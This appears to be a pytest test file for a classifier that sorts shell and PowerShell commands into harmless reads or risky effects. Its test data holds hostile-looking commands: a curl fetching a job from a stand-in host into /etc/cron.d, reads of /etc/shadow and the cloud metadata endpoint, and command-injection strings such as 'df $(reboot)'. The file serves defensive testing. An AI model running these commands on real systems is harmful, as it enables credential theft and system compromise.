"""What commands are taken for. An effect is never taken for a read."""

import pytest

from schemas.words import Effect, RiskLevel
from stage_e.risk.command_rule import Language
from tests.unit.risk.verdicts import judged

READS = """
df -h
df -hT /var
free -m
uptime
ps aux --sort=-%cpu
ps -ef
top -bn1
ss -tlnp
ip -br addr show
cat /etc/os-release
ls -la "/var/log"
find /var/log -name '*.gz' -mtime +30 -print
grep "rm -rf" /var/log/auth.log
journalctl -u nginx -n 50 --since "1 hour ago"
systemctl status reboot.target
systemctl --failed
docker logs --tail 100 web
docker stats --no-stream
kubectl get pods -A
kubectl rollout status deploy/shop -n prod --timeout=120s
helm list -A
dig +short intranet.acme.com A
ping -c 4 10.0.1.10
traceroute -n -w 2 10.0.5.1
curl -fsS -m 5 https://shop.acme.com/health
curl -s -o /dev/null -w "%{http_code}" https://shop.acme.com/health
/usr/bin/df -h
timeout 5 tail -n 100 /var/log/syslog
echo "do not run rm -rf /"
free -m && uptime
ps aux | head -20
du -sh /var/lib/docker 2>/dev/null
iptables -L -n -v
date +%F
hostname
ls *
ls /tmp/{a,b}
ls ~root
df -h # comment
docker exec web ls
kubectl exec db-0 -- ls
""".strip().splitlines()


@pytest.mark.parametrize("command", READS)
def test_a_listed_command_with_listed_options_is_a_read(command: str) -> None:
    assert judged(command).effect.harmless


WINDOWS_READS = [
    'Write-Host "Host: 192.168.50.212" -ForegroundColor Cyan; Get-Volume',
    "Get-ChildItem C:\\",
    "Get-HotFix | Select-Object HotFixID,InstalledOn",
    "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10",
    "Get-Volume | Where-Object {$_.DriveLetter} | Select-Object DriveLetter, Size",
    "Get-Service | Where-Object {$_.Status -eq 'Stopped' -and $_.StartType -eq 'Automatic'}",
    "Get-WinEvent -FilterHashtable @{LogName='Security';Id=4625} -MaxEvents 20",
    "Get-EventLog -LogName System -Newest 50 | Format-Table -AutoSize",
    "ipconfig /all",
]


@pytest.mark.parametrize("command", WINDOWS_READS)
def test_a_chain_of_cmdlets_that_look_is_a_read(command: str) -> None:
    assert judged(command, Language.POWERSHELL).effect.harmless


EFFECTS = """
find /tmp -name x -delete
find /tmp -exec rm {} +
journalctl --vacuum-time=1d
date -s 12:00
date 010203042026
curl -o /etc/cron.d/job http://x.example/job
curl -X POST https://api.acme.com/health
curl -d a=b https://api.acme.com/health
curl -T file https://api.acme.com/health
curl -K config https://api.acme.com/health
curl -w '%output{/tmp/x}' https://api.acme.com/health
curl https://jenkins.acme.com/job/deploy/build?token=x
curl file:///etc/shadow
curl http://169.254.169.254/latest/meta-data/
curl http://asset-service:3001/21/credentials
dmesg -c
dmesg --clear
ss -K dst 10.0.0.1
ip link set eth0 down
ip addr add 10.0.0.1/24 dev eth0
hostname newname
sysctl -w vm.swappiness=10
sysctl -n vm.swappiness=10
env PATH=/tmp df
env rm x
sudo reboot
sudo -u root sh
top
ping 10.0.0.1
ping -f -c 5 10.0.0.1
tcpdump -i eth0
tcpdump -c 5 -w /etc/passwd
docker run alpine
kubectl get pods --kubeconfig /tmp/x
systemctl stop nginx
systemctl -H web-02 status nginx
service nginx restart
hostnamectl set-hostname x
timedatectl set-time 12:00
sort -o /etc/passwd /tmp/x
uniq /tmp/a /tmp/b
tree -o /tmp/x
wget https://shop.acme.com/health
nmap -oN /tmp/x web-01
iptables -L -Z
iptables -F
swapon -a
awk 'BEGIN{system("id")}'
sed -i s/a/b/ /etc/hosts
xargs rm
tee /etc/hosts
df -h; reboot
df -h && reboot
df -h | sh
df -h > /etc/passwd
df -h & reboot
df `reboot`
df $(reboot)
df $HOME
df <(reboot)
echo "$(reboot)"
echo "`reboot`"
A=b df
df\\ -h
'df' -h 'unclosed
{{command}}
pg_restore -d x y
/tmp/df -h
./df
""".strip().splitlines()


@pytest.mark.parametrize("command", [*EFFECTS, "df -h\nreboot", "df -h\rreboot", "df -h\treboot", ""])
def test_what_no_list_allows_is_no_read(command: str) -> None:
    assert not judged(command).effect.harmless


WINDOWS_EFFECTS = [
    "Get-Service; Remove-Item C:\\Data -Recurse",
    "Get-Process | Stop-Process -Force",
    "Get-Service | Restart-Service",
    "Get-ChildItem C:\\ | ForEach-Object { Remove-Item $_ }",
    "Get-Item (Remove-Item x)",
    "Get-Item $(Remove-Item x)",
    'Write-Host "$(Remove-Item x)"',
    "Where-Object {Remove-Item x}",
    "Get-Content C:\\log.txt -Wait",
    "Get-Service > C:\\x.txt",
    "Get-Service\nRemove-Item x",
    "& Remove-Item x",
    "Write-Host 'a\u2019; Remove-Item x; \u2018b'",
    "Get-Evil",
    "Get-Service @arguments",
    "iex x",
]


@pytest.mark.parametrize("command", WINDOWS_EFFECTS)
def test_what_only_looks_like_a_cmdlet_that_looks_is_no_read(command: str) -> None:
    assert not judged(command, Language.POWERSHELL).effect.harmless


@pytest.mark.parametrize(
    ("command", "effect", "risk"),
    [
        ("systemctl restart nginx", Effect.DISRUPTIVE, RiskLevel.MEDIUM),
        ("sudo systemctl reload nginx", Effect.WRITE_REVERSIBLE, RiskLevel.MEDIUM),
        ("docker restart web", Effect.DISRUPTIVE, RiskLevel.MEDIUM),
        ("systemctl stop postgresql", Effect.DISRUPTIVE, RiskLevel.HIGH),
        ("helm upgrade shop charts/shop --atomic", Effect.DISRUPTIVE, RiskLevel.HIGH),
        ("rm -rf /srv/data", Effect.DESTRUCTIVE, RiskLevel.CRITICAL),
        ("iptables -I INPUT -j DROP", Effect.DISRUPTIVE, RiskLevel.CRITICAL),
        ("kubectl delete ns prod", Effect.DESTRUCTIVE, RiskLevel.CRITICAL),
        ("useradd -m deploy", Effect.DISRUPTIVE, RiskLevel.HIGH),
        ("nobody-knows-this", Effect.UNKNOWN, RiskLevel.HIGH),
        ("systemctl restart nginx; systemctl restart php-fpm", Effect.DISRUPTIVE, RiskLevel.HIGH),
    ],
)
def test_a_change_has_its_effect_and_its_risk(command: str, effect: Effect, risk: RiskLevel) -> None:
    verdict = judged(command)

    assert (verdict.effect, verdict.risk) == (effect, risk)


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("cat /etc/hosts", RiskLevel.LOW),
        ("cat /etc/shadow", RiskLevel.HIGH),
        ("head -c 100 /opt/app/.env", RiskLevel.HIGH),
        ("ls /home/deploy/.ssh", RiskLevel.MEDIUM),
        ("cat /proc/1/environ", RiskLevel.MEDIUM),
        ("cat /var/www/../../etc/passwd", RiskLevel.HIGH),
        ("cat /srv/app/dump.sql", RiskLevel.MEDIUM),
        ("cat /srv/{{hostname}}.conf", RiskLevel.MEDIUM),
        ("env", RiskLevel.MEDIUM),
        ("sudo lastb -n 20", RiskLevel.LOW),
        ("tail -f /var/log/syslog", RiskLevel.MEDIUM),
        ("journalctl -f", RiskLevel.MEDIUM),
        ("docker stats", RiskLevel.MEDIUM),
        ("kubectl get pods --watch", RiskLevel.MEDIUM),
        ("kubectl get secret db -o yaml", RiskLevel.HIGH),
        ("docker inspect web", RiskLevel.MEDIUM),
        ("curl -s https://api.acme.com/v1/users", RiskLevel.MEDIUM),
    ],
)
def test_a_read_is_as_bad_as_what_it_may_show(command: str, risk: RiskLevel) -> None:
    verdict = judged(command)

    assert verdict.effect.harmless
    assert verdict.risk is risk


def test_an_answer_that_says_no_is_still_an_answer() -> None:
    assert judged("systemctl is-active nginx").ok_exit_codes == (0, 3)


def test_waiting_for_a_rollout_is_a_gate() -> None:
    assert judged("kubectl rollout status deploy/shop").gate


@pytest.mark.parametrize(
    ("command", "language", "resource"),
    [
        ("systemctl restart nginx.service", Language.POSIX, ("unit", "nginx")),
        ("docker restart web", Language.POSIX, ("container", "web")),
        ("Restart-Service -Name Spooler", Language.POWERSHELL, ("service", "Spooler")),
        ("uptime", Language.POSIX, ("", "")),
    ],
)
def test_a_change_of_one_thing_names_it(command: str, language: Language, resource: tuple[str, str]) -> None:
    verdict = judged(command, language)

    assert (verdict.resource_kind, verdict.resource_name) == resource


def test_wrappers_end_somewhere() -> None:
    assert judged("sudo " * 50 + "df -h").effect is Effect.UNKNOWN
